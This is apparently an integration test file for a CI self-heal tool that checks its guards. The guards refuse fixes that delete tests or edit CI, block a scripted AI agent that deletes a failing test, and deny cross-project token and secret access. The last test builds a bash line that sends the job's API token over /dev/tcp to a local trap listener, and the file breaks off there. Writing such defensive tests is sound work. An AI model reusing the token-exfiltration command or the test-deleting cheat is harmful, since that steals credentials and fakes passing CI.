//! Self-heal end to end, on a real server, real git and the sandbox: `salve demo`'s formatting
//! failure healed to a pull request (then merged), a flaky failure rerun with no change, a fix
//! the guards refuse, and a heal whose fix still fails CI on its branch (no pull request, no
//! heal of the heal, even when the YAML forgets the branch condition).

use std::path::Path;
use std::process::Command;

use serde_json::Value;

use super::serve::{Server, commit, git};
use super::{salve, stderr, stdout};

fn bare(repo: &Path, args: &[&str]) -> String {
    let out = Command::new("git").arg("-C").arg(repo).args(args).output().unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn the_demo_heals_with_every_job_on_agents() {
    let dir = tempfile::tempdir().unwrap();
    let out = salve(&["demo", "--agents", "2", "--dir", dir.path().to_str().unwrap(), "--timeout", "300"], dir.path());
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{text}\n{}", stderr(&out));
    for step in ["CI on main: failed", "tier 1 fixers: verified (apply cargo fmt)", "pull request #1 opened"] {
        assert!(text.contains(step), "missing '{step}':\n{text}");
    }
    let line = text.lines().find(|l| l.contains("jobs on agents:")).unwrap_or_default();
    let counts: Vec<u32> = line.split([' ', '(']).filter_map(|w| w.parse().ok()).take(2).collect();
    assert!(counts.len() == 2 && counts[0] == counts[1] && counts[0] >= 5, "every job on an agent: {line}");
    // The heal job on an agent kept its report in the server's artifact storage.
    let artifacts = dir.path().join("data/artifacts");
    let kept = std::fs::read_dir(&artifacts)
        .unwrap()
        .flatten()
        .flat_map(|project| std::fs::read_dir(project.path().join("jobs")).into_iter().flatten().flatten())
        .any(|job| job.path().join("selfheal/report.json").is_file());
    assert!(kept, "no selfheal/report.json under {}", artifacts.display());
    // SIGTERM at the end: each agent finished what it ran and said goodbye.
    for i in 1..=2 {
        let log = std::fs::read_to_string(dir.path().join(format!("agent-{i}.log"))).unwrap();
        assert!(log.contains(&format!("Agent demo-{i} disconnected")), "{log}");
    }
}

#[test]
fn the_demo_heals_a_formatting_failure_to_a_pull_request_that_merges() {
    let dir = tempfile::tempdir().unwrap();
    let out = salve(&["demo", "--dir", dir.path().to_str().unwrap(), "--json", "--timeout", "300"], dir.path());
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{text}\n{}", stderr(&out));
    for step in [
        "CI on main: failed",
        "tier 1 fixers: verified (apply cargo fmt)",
        "heal pushed: selfheal CI: apply cargo fmt",
        "passed",
        "pull request #1 opened",
    ] {
        assert!(text.contains(step), "missing '{step}':\n{text}");
    }
    let timings: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
    for phase in ["first CI run", "heal", "second CI run", "pull request"] {
        assert!(timings["phases"][phase]["wall_ms"].is_u64(), "{timings}");
    }

    // The heal's diff is exactly the formatter's.
    let repo = dir.path().join("data/repos/sample.git");
    let heal = bare(&repo, &["for-each-ref", "--format=%(refname:short)", "refs/heads/selfheal-*"]);
    let heal = heal.trim();
    assert!(heal.starts_with("selfheal-"), "{heal}");
    assert_eq!(bare(&repo, &["diff", "--name-only", "main", heal]).trim(), "src/lib.rs");
    let original = bare(&repo, &["show", "main:src/lib.rs"]);
    let mut rustfmt = Command::new("rustfmt")
        .args(["--edition", "2021", "--emit", "stdout"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut rustfmt.stdin.take().unwrap(), original.as_bytes()).unwrap();
    let formatted = String::from_utf8(rustfmt.wait_with_output().unwrap().stdout).unwrap();
    assert_eq!(bare(&repo, &["show", &format!("{heal}:src/lib.rs")]), formatted);
    let message = bare(&repo, &["log", "-1", "--format=%B", heal]);
    assert!(message.starts_with("selfheal CI: apply cargo fmt"), "{message}");
    for trailer in ["Selfheal-Pipeline: ", "Selfheal-Tier: 1 (fixers: cargo fmt)", "Selfheal-Tokens: 0"] {
        assert!(message.contains(trailer), "{message}");
    }
    assert_eq!(bare(&repo, &["rev-list", "--count", &format!("main..{heal}")]).trim(), "1");

    // The data folder serves again: the pull request is there, creating it again finds it, and
    // it merges (its head passed CI); the merge starts CI on main.
    let server = Server::start(&dir.path().join("data"));
    let show = server.salve(&["pr", "show", "1", "--project", "sample"]);
    let shown = stdout(&show);
    assert!(shown.contains(&format!("{heal} -> main")) && shown.contains("passed"), "{shown}{}", stderr(&show));
    assert!(shown.contains("+pub fn add(a: i32, b: i32) -> i32 {"), "{shown}");
    let again =
        server.salve(&["pr", "create", "--project", "sample", "--head", heal, "--base", "main", "--title", "again"]);
    assert!(stdout(&again).contains("is open already"), "{}{}", stdout(&again), stderr(&again));
    let heals = server.get("/api/v1/heals?project=sample");
    assert_eq!(heals["heals"][0]["outcome"], "pushed", "{heals:#}");
    assert_eq!(heals["heals"][0]["report"]["tokens"], 0);
    let merged = server.salve(&["pr", "merge", "1", "--project", "sample"]);
    assert!(merged.status.success(), "{}", stderr(&merged));
    assert_eq!(bare(&repo, &["rev-parse", "main"]), bare(&repo, &["rev-parse", heal]), "a fast-forward");
    let twice = server.salve(&["pr", "merge", "1", "--project", "sample"]);
    assert!(stderr(&twice).contains("merged already"), "{}", stderr(&twice));
    let main_sha = bare(&repo, &["rev-parse", "main"]);
    server.wait("sample", "CI on the merged main", |l| {
        l.iter().any(|p| p["branch"] == "main" && p["sha"] == main_sha.trim() && p["result"] == "passed")
    });
}

const HEAL_YML: &str = "version: v1.0\nname: Self-heal\nagent:\n  machine:\n    type: e1-standard-2\nblocks:\n  - name: Heal\n    task:\n      jobs:\n        - name: salve heal\n          commands:\n            - checkout\n            - echo \"token=$SALVE_TOKEN\"\n            - salve heal\n            - git log -1 --format=%s\n";
const PR_YML: &str = "version: v1.0\nname: PR\nagent:\n  machine:\n    type: e1-standard-2\nblocks:\n  - name: PR\n    task:\n      jobs:\n        - name: pr\n          commands:\n            - checkout\n            - salve pr create --base main --title \"$(git log -1 --format=%s)\"\n";

/// A CI pipeline with `blocks` (YAML text) and the two promotions; `heal_when` is the heal
/// promotion's condition.
fn ci(blocks: &str, heal_when: &str) -> String {
    format!(
        "version: v1.0\nname: CI\nagent:\n  machine:\n    type: e1-standard-2\nblocks:\n{blocks}promotions:\n  - name: Self-heal\n    pipeline_file: selfheal.yml\n    auto_promote:\n      when: \"{heal_when}\"\n  - name: Open pull request\n    pipeline_file: selfheal-pr.yml\n    auto_promote:\n      when: \"result = 'passed' AND branch =~ '^selfheal-.*'\"\n"
    )
}

fn job(block: &str, deps: &str, command: &str) -> String {
    let command = command.replace('\'', "''");
    format!(
        "  - name: {block}\n    dependencies: [{deps}]\n    task:\n      jobs:\n        - name: {block}\n          commands:\n            - checkout\n            - '{command}'\n"
    )
}

const SEED_WHEN: &str = "result = 'failed' AND branch !~ '^selfheal-.*'";

/// What `salve init --self-heal` writes: the seed's condition, and a job's time limit too.
const INIT_WHEN: &str =
    "(result = 'failed' OR (result = 'stopped' AND result_reason = 'timeout')) AND branch !~ '^selfheal-.*'";

/// Creates project `name`, commits `files` and the heal pipelines, pushes main.
fn project(server: &Server, name: &str, files: &[(&str, &str)]) -> tempfile::TempDir {
    let created = server.salve(&["project", "create", name]);
    assert!(created.status.success(), "{}", stderr(&created));
    let dir = tempfile::tempdir().unwrap();
    git(dir.path(), &["init", "-q", "-b", "main"]);
    let mut all: Vec<(&str, Option<&str>)> =
        vec![(".semaphore/selfheal.yml", Some(HEAL_YML)), (".semaphore/selfheal-pr.yml", Some(PR_YML))];
    all.extend(files.iter().map(|(p, t)| (*p, Some(*t))));
    commit(dir.path(), &all, "a change");
    server.push(dir.path(), name, "HEAD:refs/heads/main");
    dir
}

fn heal_log(server: &Server, pipeline: &Value) -> String {
    let p = server.get(&format!("/api/v1/pipelines/{}", pipeline["id"].as_str().unwrap()));
    let job = p["blocks"][0]["jobs"][0]["id"].as_str().unwrap().to_owned();
    let log = server.get(&format!("/api/v1/jobs/{job}/logs?tail=200"));
    log["lines"].as_array().unwrap().iter().map(|l| l["text"].as_str().unwrap().to_owned() + "\n").collect()
}

#[test]
fn heals_that_must_not_push() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());

    // Flaky: a network error the first time, fine on the rerun (the cache remembers).
    let flaky = "if cache has_key flaky-once; then echo fine; else cache store flaky-once .semaphore; echo 'curl: (56) Recv failure: Connection reset by peer'; exit 1; fi";
    let _f = project(&server, "flaky", &[(".semaphore/semaphore.yml", &ci(&job("Fetch", "", flaky), SEED_WHEN))]);

    // A flaky test: it fails once, passes on the rerun of the same commit.
    let flaky_test = "if cache has_key test-once; then echo \"1 passed in 0.01s\"; else cache store test-once .semaphore; echo \"FAILED tests/test_port.py::test_bind - assert 1 == 2\"; echo \"1 failed in 0.01s\"; exit 1; fi";
    let _t =
        project(&server, "flakytest", &[(".semaphore/semaphore.yml", &ci(&job("Test", "", flaky_test), SEED_WHEN))]);

    // Refused: the only "fix" the agent finds is deleting the failing test.
    let _r = project(
        &server,
        "refused",
        &[
            (".semaphore/semaphore.yml", &ci(&job("Test", "", "bash tests/test_math.sh"), SEED_WHEN)),
            ("tests/test_math.sh", "test \"$((2 + 2))\" = 5\n"),
            (
                "agent.sh",
                "rm tests/test_math.sh\nsed -i 's#bash tests/test_math.sh#true#' .semaphore/semaphore.yml\necho 'make CI pass' > commit-message.txt\n",
            ),
            ("salve.toml", "[heal.agent]\ncommand = \"bash agent.sh\"\n"),
        ],
    );

    // A fix that still fails CI on its branch: a user fixer sorts the list (Lint passes), but
    // Test fails too. The heal promotion forgets the branch condition.
    let blocks = job("Lint", "", "sort -c list.txt") + &job("Test", "Lint", "bash tests/test_math.sh");
    let _l = project(
        &server,
        "loop",
        &[
            (".semaphore/semaphore.yml", &ci(&blocks, "result = 'failed'")),
            ("list.txt", "b\na\n"),
            ("tests/test_math.sh", "test \"$((2 + 2))\" = 5\n"),
            (
                "salve.toml",
                "[[heal.fixer]]\nname = \"sort the list\"\nwhen_command = 'sort -c'\nrun = [\"sort -o list.txt list.txt\"]\n",
            ),
        ],
    );

    let healed = |l: &[Value]| l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done");
    let flaky_list = server.wait("flaky", "the flaky heal", healed);
    let test_list = server.wait("flakytest", "the flaky test's heal", healed);
    let refused_list = server.wait("refused", "the refused heal", healed);
    let loop_list = server.wait("loop", "the heal of the heal branch", |l| {
        l.iter().filter(|p| p["name"] == "Self-heal" && p["state"] == "done").count() == 2
    });

    // Flaky: rerun, passed, reported, no branch, no pull request.
    let h = server.get("/api/v1/heals?project=flaky");
    assert_eq!(h["heals"][0]["outcome"], "flaky", "{h:#}");
    assert_eq!(h["heals"][0]["report"]["tiers"][0]["name"], "rerun", "{h:#}");
    let log = heal_log(&server, flaky_list.iter().find(|p| p["name"] == "Self-heal").unwrap());
    assert!(log.contains("tier 0: network infrastructure is not the code's fault"), "{log}");
    assert!(log.contains("token=[MASKED]"), "the job's API token is masked: {log}");
    assert!(!flaky_list.iter().any(|p| p["branch"].as_str().unwrap().starts_with("selfheal-")), "{flaky_list:#?}");

    // The flaky test: rerun before any fix, passed, reported flaky, nothing pushed.
    let h = server.get("/api/v1/heals?project=flakytest");
    assert_eq!(h["heals"][0]["outcome"], "flaky", "{h:#}");
    assert_eq!(h["heals"][0]["report"]["tiers"][0]["detail"], "a test failure may be flaky", "{h:#}");
    assert_eq!(h["heals"][0]["report"]["flaky_jobs"], serde_json::json!(["Test"]), "{h:#}");
    assert!(!test_list.iter().any(|p| p["branch"].as_str().unwrap().starts_with("selfheal-")), "{test_list:#?}");

    // Refused: the guards name the rule, nothing is pushed, the heal job fails.
    let h = server.get("/api/v1/heals?project=refused");
    assert_eq!(h["heals"][0]["outcome"], "refused", "{h:#}");
    let rules: Vec<&str> =
        h["heals"][0]["report"]["refusals"].as_array().unwrap().iter().map(|r| r["rule"].as_str().unwrap()).collect();
    assert!(rules.contains(&"deletes_test") && rules.contains(&"edits_ci"), "{h:#}");
    let heal = refused_list.iter().find(|p| p["name"] == "Self-heal").unwrap();
    assert_eq!(heal["result"], "failed");
    let repo = data.path().join("repos/refused.git");
    assert_eq!(bare(&repo, &["for-each-ref", "refs/heads/selfheal-*"]), "", "nothing pushed");

    // The loop: one heal pushed; CI failed on its branch; the heal pipeline that the careless
    // promotion started there did nothing; no pull request.
    let h = server.get("/api/v1/heals?project=loop");
    assert_eq!(h["heals"].as_array().unwrap().len(), 1, "{h:#}");
    assert_eq!(h["heals"][0]["outcome"], "pushed", "{h:#}");
    let branch = h["heals"][0]["report"]["heal_branch"].as_str().unwrap();
    let ci_there = loop_list.iter().find(|p| p["branch"] == branch && p["name"] == "CI").unwrap();
    assert_eq!(ci_there["result"], "failed", "{loop_list:#?}");
    let second = loop_list.iter().find(|p| p["branch"] == branch && p["name"] == "Self-heal").unwrap();
    let log = heal_log(&server, second);
    assert!(log.contains("is a heal branch: Salve never heals a heal"), "{log}");
    let pulls = server.get("/api/v1/pulls?project=loop&state=all");
    assert_eq!(pulls["pulls"].as_array().unwrap().len(), 0, "{pulls:#}");
    let repo = data.path().join("repos/loop.git");
    assert_eq!(bare(&repo, &["for-each-ref", "--format=%(refname:short)", "refs/heads/selfheal-*"]).trim(), branch);
}

/// The scripted model server, killed when dropped.
struct ScriptedModel {
    child: std::process::Child,
    port: u16,
    record: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

impl ScriptedModel {
    fn start(turns: Value) -> ScriptedModel {
        use std::io::BufRead as _;
        let dir = tempfile::tempdir().unwrap();
        let script = dir.path().join("script.json");
        std::fs::write(&script, serde_json::json!({"turns": turns}).to_string()).unwrap();
        let record = dir.path().join("requests.jsonl");
        let mut child = Command::new("python3")
            .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/clients/scripted_turns.py"))
            .arg(&script)
            .arg(&record)
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut port = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut port).unwrap();
        ScriptedModel { child, port: port.trim().parse().unwrap(), record, _dir: dir }
    }

    fn requests(&self) -> Vec<Value> {
        let text = std::fs::read_to_string(&self.record).unwrap_or_default();
        text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
    }
}

impl Drop for ScriptedModel {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn heal_with(secrets: &[&str]) -> String {
    let list: String = secrets.iter().map(|s| format!("        - name: {s}\n")).collect();
    HEAL_YML.replace("    task:\n      jobs:", &format!("    task:\n      secrets:\n{list}      jobs:"))
}

const MATH: &str = "sub() { echo $(($1 + $2)); }\n";
const MATH_TEST: &str =
    "source src/math.sh\ntest \"$(sub 3 1)\" = 2 || { echo \"sub 3 1 gave $(sub 3 1), expected 2\"; exit 1; }\n";

#[test]
fn the_agent_fixes_what_no_fixer_can_and_never_sees_a_secret() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let call = |name: &str, arguments: Value| serde_json::json!({"calls": [{"name": name, "arguments": arguments}]});
    let fixer = ScriptedModel::start(serde_json::json!([
        call("failure_summary", serde_json::json!({})),
        call("read_file", serde_json::json!({"path": "src/math.sh"})),
        call(
            "replace_in_file",
            serde_json::json!({"path": "src/math.sh", "old": "$(($1 + $2))", "new": "$(($1 - $2))"})
        ),
        call("run", serde_json::json!({"command": "bash tests/test_math.sh"})),
        call("done", serde_json::json!({"summary": "Subtract in sub() instead of adding"})),
    ]));
    let cheat = ScriptedModel::start(serde_json::json!([
        call("run", serde_json::json!({"command": "rm tests/test_math.sh"})),
        {"text": "Removed the failing test: CI passes now."},
    ]));
    let (chat_url, anthropic_url) = (
        format!("SALVE_MODEL_URL=http://127.0.0.1:{}/v1", fixer.port),
        format!("SALVE_MODEL_URL=http://127.0.0.1:{}", cheat.port),
    );
    let secrets = [
        vec!["db", "-e", "PASSWORD=hunter2-db-password"],
        vec![
            "model-chat",
            "-e",
            &chat_url,
            "-e",
            "SALVE_MODEL_KEY=sk-scripted-chat-key",
            "-e",
            "SALVE_MODEL=scripted-chat",
        ],
        vec![
            "model-anthropic",
            "-e",
            &anthropic_url,
            "-e",
            "SALVE_MODEL_API=anthropic",
            "-e",
            "ANTHROPIC_API_KEY=sk-scripted-anthropic-key",
            "-e",
            "SALVE_MODEL=scripted-claude",
        ],
    ];
    for s in secrets {
        let mut args = vec!["secret", "create"];
        args.extend(s.iter().copied());
        let made = server.salve(&args);
        assert!(made.status.success(), "{}", stderr(&made));
    }
    let test_job = "  - name: Test\n    dependencies: []\n    task:\n      secrets:\n        - name: db\n      jobs:\n        - name: Test\n          commands:\n            - checkout\n            - 'echo \"db password: $PASSWORD\"'\n            - bash tests/test_math.sh\n";
    let pipeline = ci(test_job, SEED_WHEN);
    let (logic_heal, cheat_heal) = (heal_with(&["model-chat", "db"]), heal_with(&["model-anthropic"]));
    let _l = project(
        &server,
        "logic",
        &[
            (".semaphore/semaphore.yml", &pipeline),
            (".semaphore/selfheal.yml", &logic_heal),
            ("src/math.sh", MATH),
            ("tests/test_math.sh", MATH_TEST),
        ],
    );
    let _c = project(
        &server,
        "cheat",
        &[
            (".semaphore/semaphore.yml", &pipeline),
            (".semaphore/selfheal.yml", &cheat_heal),
            ("src/math.sh", MATH),
            ("tests/test_math.sh", MATH_TEST),
        ],
    );
    let logic = server
        .wait("logic", "the agent's pull request", |l| l.iter().any(|p| p["name"] == "PR" && p["state"] == "done"));
    let cheated = server
        .wait("cheat", "the cheat's heal", |l| l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done"));

    // The fix: verified, pushed with the model's provenance, CI passed, a pull request opened.
    let h = server.get("/api/v1/heals?project=logic");
    let heal = &h["heals"][0];
    assert_eq!(heal["outcome"], "pushed", "{h:#}");
    assert_eq!(heal["report"]["model"], "scripted-chat");
    assert_eq!(heal["report"]["tokens"], 600, "five turns of 120 tokens");
    let branch = heal["report"]["heal_branch"].as_str().unwrap();
    assert!(logic.iter().any(|p| p["branch"] == branch && p["name"] == "CI" && p["result"] == "passed"), "{logic:#?}");
    let repo = data.path().join("repos/logic.git");
    assert_eq!(bare(&repo, &["show", &format!("{branch}:src/math.sh")]), "sub() { echo $(($1 - $2)); }\n");
    let message = bare(&repo, &["log", "-1", "--format=%B", branch]);
    assert!(message.starts_with("selfheal CI: Subtract in sub() instead of adding"), "{message}");
    assert!(
        message.contains("Selfheal-Tier: 2 (agent scripted-chat)")
            && message.contains("Selfheal-Model: scripted-chat")
            && message.contains("Selfheal-Tokens: 600"),
        "{message}"
    );
    let pulls = server.get("/api/v1/pulls?project=logic");
    assert_eq!(pulls["pulls"][0]["title"], "selfheal CI: Subtract in sub() instead of adding", "{pulls:#}");

    // What the model was sent: the condensed report first, every tool result after; never a
    // secret value, the API token or its own key (that went in the header).
    let requests = fixer.requests();
    assert_eq!(requests.len(), 5, "{requests:#?}");
    for r in &requests {
        assert_eq!(r["path"], "/v1/chat/completions");
        assert_eq!(r["authorization"], "Bearer sk-scripted-chat-key");
        let body = r["body"].to_string();
        for secret in ["hunter2-db-password", "sk-scripted-chat-key", "salve_"] {
            assert!(!body.contains(secret), "the model was sent '{secret}': {body}");
        }
    }
    let first = &requests[0]["body"];
    assert_eq!(first["model"], "scripted-chat");
    let task = first["messages"][1]["content"].as_str().unwrap();
    assert!(task.contains("sub 3 1 gave 4, expected 2") && task.contains("bash tests/test_math.sh"), "{task}");
    assert!(first["tools"].as_array().unwrap().iter().any(|t| t["function"]["name"] == "replace_in_file"), "{first:#}");
    let last = requests[4]["body"]["messages"].as_array().unwrap();
    assert!(last.last().unwrap()["content"].as_str().unwrap().starts_with("exit: passed"), "{last:#?}");
    let artifacts = data.path().join("artifacts");
    let transcripts: Vec<_> =
        walk(&artifacts).into_iter().filter(|p| p.ends_with("selfheal/transcript.json")).collect();
    assert_eq!(transcripts.len(), 2, "one per agent heal: {transcripts:?}");

    // The cheat: deleting the test is refused; nothing pushed; the Anthropic wire format was used.
    let h = server.get("/api/v1/heals?project=cheat");
    assert_eq!(h["heals"][0]["outcome"], "refused", "{h:#}");
    let rules = h["heals"][0]["report"]["refusals"].to_string();
    assert!(rules.contains("deletes_test"), "{h:#}");
    assert!(cheated.iter().all(|p| !p["branch"].as_str().unwrap().starts_with("selfheal-")), "{cheated:#?}");
    let requests = cheat.requests();
    assert_eq!(requests[0]["path"], "/v1/messages");
    assert_eq!(requests[0]["x-api-key"], "sk-scripted-anthropic-key");
    assert!(requests[0]["body"]["system"].as_str().unwrap().contains("do not delete"), "{:#}", requests[0]);
    assert_eq!(bare(&data.path().join("repos/cheat.git"), &["for-each-ref", "refs/heads/selfheal-*"]), "");
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

/// The seed's hand-written recipe, as a Semaphore user has it: a prompt template rendered with
/// envsubst, an agent command (a stand-in script where the seed runs `codex exec`), a commit
/// pushed with `git push origin`, the commit message handed to the PR pipeline through the
/// cache, and `salve pr create` where the seed runs `gh pr create`.
const SEED_HEAL: &str = r#"version: v1.0
name: Self-heal
agent:
  machine:
    type: e1-standard-2
blocks:
  - name: Fix
    task:
      prologue:
        commands:
          - checkout
          - export SELFHEAL_BRANCH="selfheal-${SEMAPHORE_GIT_SHA:0:7}"
          - 'salve token create more --server "$SALVE_SERVER" || echo "refused: a token"'
          - 'salve secret list || echo "refused: secrets"'
          - 'git push "$SALVE_SERVER/git/other.git" HEAD:refs/heads/x 2>&1 | tail -1 || true'
      jobs:
        - name: Fix
          commands:
            - git checkout -b "$SELFHEAL_BRANCH"
            - export PROMPT="$(envsubst < selfheal/prompt-template.txt)"
            - bash selfheal/agent.sh "$PROMPT"
            - git add -A -- . ':!commit-message.txt'
            - 'git -c user.name=selfheal -c user.email=selfheal@example.com commit -m "Selfheal CI: $(cat commit-message.txt)"'
            - cache store "commit-message-$SELFHEAL_BRANCH" commit-message.txt
            - git push origin "$SELFHEAL_BRANCH"
"#;

const SEED_PR: &str = r#"version: v1.0
name: PR
agent:
  machine:
    type: e1-standard-2
blocks:
  - name: PR
    task:
      jobs:
        - name: pr
          commands:
            - checkout
            - cache restore "commit-message-$SEMAPHORE_GIT_BRANCH"
            - 'salve pr create --base main --title "Selfheal CI: $(cat commit-message.txt)" --body "Fixed by the self-heal pipeline"'
"#;

#[test]
fn the_seeds_hand_written_recipe_runs_unchanged_but_for_its_agent_and_gh() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let agent =
        "echo \"agent got: $1\"\nsed -i 's/+ \\$2/- $2/' src/math.sh\necho 'Subtract in sub()' > commit-message.txt\n";
    let _o = project(&server, "other", &[(".semaphore/semaphore.yml", &ci(&job("Ok", "", "true"), SEED_WHEN))]);
    let _s = project(
        &server,
        "seed",
        &[
            (".semaphore/semaphore.yml", &ci(&job("Test", "", "bash tests/test_math.sh"), SEED_WHEN)),
            (".semaphore/selfheal.yml", SEED_HEAL),
            (".semaphore/selfheal-pr.yml", SEED_PR),
            (
                "selfheal/prompt-template.txt",
                "Fix CI of $SEMAPHORE_PROJECT_NAME on ${SEMAPHORE_GIT_BRANCH}; write commit-message.txt.",
            ),
            ("selfheal/agent.sh", agent),
            ("src/math.sh", MATH),
            ("tests/test_math.sh", MATH_TEST),
        ],
    );
    let list = server.wait("seed", "the seed recipe's pull request", |l| {
        l.iter().any(|p| p["name"] == "PR" && p["state"] == "done")
            || l.iter().any(|p| p["file"] != ".semaphore/semaphore.yml" && p["result"] == "failed")
    });
    let heal = list.iter().find(|p| p["name"] == "Self-heal").unwrap();
    let log = heal_log(&server, heal);
    assert_eq!(heal["result"], "passed", "{log}");
    assert!(log.contains("agent got: Fix CI of seed on main; write commit-message.txt."), "{log}");
    // The job's token is its project's: no new tokens, no secrets, no other project's repository.
    assert!(log.contains("said 403") && log.contains("refused: a token") && log.contains("refused: secrets"), "{log}");
    assert!(log.contains("403"), "{log}");
    assert_eq!(
        bare(&data.path().join("repos/other.git"), &["for-each-ref", "refs/heads/x"]),
        "",
        "nothing pushed to the other project"
    );
    let pulls = server.get("/api/v1/pulls?project=seed");
    let pr = &pulls["pulls"][0];
    assert_eq!(pr["title"], "Selfheal CI: Subtract in sub()", "{pulls:#}");
    let branch = pr["head"].as_str().unwrap();
    assert!(list.iter().any(|p| p["branch"] == branch && p["name"] == "CI" && p["result"] == "passed"), "{list:#?}");
    let repo = data.path().join("repos/seed.git");
    assert_eq!(bare(&repo, &["show", &format!("{branch}:src/math.sh")]), "sub() { echo $(($1 - $2)); }\n");
}

#[test]
fn the_demo_logic_bug_needs_a_model_and_heals_with_one() {
    let dir = tempfile::tempdir().unwrap();
    let mut no_model = Command::new(env!("CARGO_BIN_EXE_salve"));
    no_model.args(["demo", "--scenario", "logic-bug", "--dir"]).arg(dir.path().join("a"));
    for k in ["SALVE_MODEL_URL", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "SALVE_MODEL_KEY"] {
        no_model.env_remove(k);
    }
    let out = no_model.output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("needs a model"), "{}", stderr(&out));

    let call = |name: &str, arguments: Value| serde_json::json!({"calls": [{"name": name, "arguments": arguments}]});
    let model = ScriptedModel::start(serde_json::json!([
        call("read_file", serde_json::json!({"path": "src/lib.rs"})),
        call("replace_in_file", serde_json::json!({"path": "src/lib.rs", "old": "    a + b\n", "new": "    a - b\n"})),
        call("done", serde_json::json!({"summary": "Make sub() subtract"})),
    ]));
    let out = Command::new(env!("CARGO_BIN_EXE_salve"))
        .args(["demo", "--scenario", "logic-bug", "--timeout", "300", "--dir"])
        .arg(dir.path().join("b"))
        .env("SALVE_MODEL_URL", format!("http://127.0.0.1:{}/v1", model.port))
        .env("SALVE_MODEL", "scripted")
        .output()
        .unwrap();
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{text}\n{}", stderr(&out));
    assert!(text.contains("tier 2 agent: verified (Make sub() subtract)"), "{text}");
    assert!(text.contains("pull request #1 opened: selfheal CI: Make sub() subtract"), "{text}");
    assert_eq!(model.requests().len(), 3);
}

/// In a repository whose `.gitignore` does not cover `target/` (and with no Cargo.lock
/// committed), the heal commits only what the fixer changed in tracked files.
#[test]
fn a_lint_is_healed_by_clippys_own_fix() {
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let lib = "pub fn double(x: i32) -> i32 {\n    return x * 2;\n}\n";
    let _p = project(
        &server,
        "lint",
        &[
            (".semaphore/semaphore.yml", &ci(&job("Lint", "", "cargo clippy --all-targets -- -D warnings"), SEED_WHEN)),
            ("Cargo.toml", "[package]\nname = \"lint\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"),
            ("src/lib.rs", lib),
        ],
    );
    let list = server.wait("lint", "the lint's pull request", |l| {
        l.iter().any(|p| p["name"] == "PR" && p["state"] == "done")
            || l.iter().any(|p| p["name"] == "Self-heal" && p["state"] == "done" && p["result"] != "passed")
    });
    let h = server.get("/api/v1/heals?project=lint");
    assert_eq!(h["heals"][0]["outcome"], "pushed", "{h:#}\n{list:#?}");
    assert_eq!(h["heals"][0]["report"]["tiers"][0]["detail"], "apply cargo clippy --fix", "{h:#}");
    // After the heal the checkout is a whole repository again, at the heal's commit.
    let heal = list.iter().find(|p| p["name"] == "Self-heal").unwrap();
    let log = heal_log(&server, heal);
    assert!(log.contains("\nselfheal CI: apply cargo clippy --fix\n"), "{log}");
    let branch = h["heals"][0]["report"]["heal_branch"].as_str().unwrap();
    let repo = data.path().join("repos/lint.git");
    assert_eq!(
        bare(&repo, &["show", &format!("{branch}:src/lib.rs")]),
        "pub fn double(x: i32) -> i32 {\n    x * 2\n}\n"
    );
    // No .gitignore covers target/ and Cargo.lock is not committed: the fix is still only what
    // the fixer changed in tracked files, never its build output.
    assert_eq!(bare(&repo, &["diff", "--name-only", "main", branch]).trim(), "src/lib.rs");
}

/// A listener that counts connections (an attacker's server): nothing a heal runs may reach it.
struct Trap {
    port: u16,
    hits: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Trap {
    fn start() -> Trap {
        use std::io::Read as _;
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let h = std::sync::Arc::clone(&hits);
        std::thread::spawn(move || {
            for mut conn in listener.incoming().flatten() {
                let _ = conn.set_read_timeout(Some(std::time::Duration::from_millis(500)));
                let mut buf = [0u8; 512];
                let n = conn.read(&mut buf).unwrap_or(0);
                h.lock().unwrap().push(String::from_utf8_lossy(&buf[..n]).into_owned());
            }
        });
        Trap { port, hits }
    }
}

/// A fixer (sandboxed code) plants every trap git has for the heal's own `git add`, `diff`,
/// `commit` and `push`: hooks, `core.hooksPath`, fsmonitor, clean filters and textconv drivers
/// (through `.git/info/attributes` and the work tree's `.gitattributes`), an `insteadOf` that
/// sends the push (and its token) to a listener of the attacker's, in the work tree's `.git`,
/// in the heal's protected copy of it and in the heal job's home. None of it runs: the heal
/// pushes its fix to the server, and the listener hears nothing.
#[test]
fn a_heals_git_runs_nothing_that_its_fixers_planted() {
    let trap = Trap::start();
    let data = tempfile::tempdir().unwrap();
    let server = Server::start(data.path());
    let server_url = server.url.trim_end_matches('/').to_owned();
    let call = format!(
        "#!/bin/bash\n{{ printf 'GET /%s HTTP/1.0\\r\\nX-Token: %s\\r\\n\\r\\n' \"$(basename \"$0\")\" \"$SALVE_TOKEN\"; }} > /dev/tcp/127.0.0.1/{}\n",
        trap.port
    );
    let plant = format!(
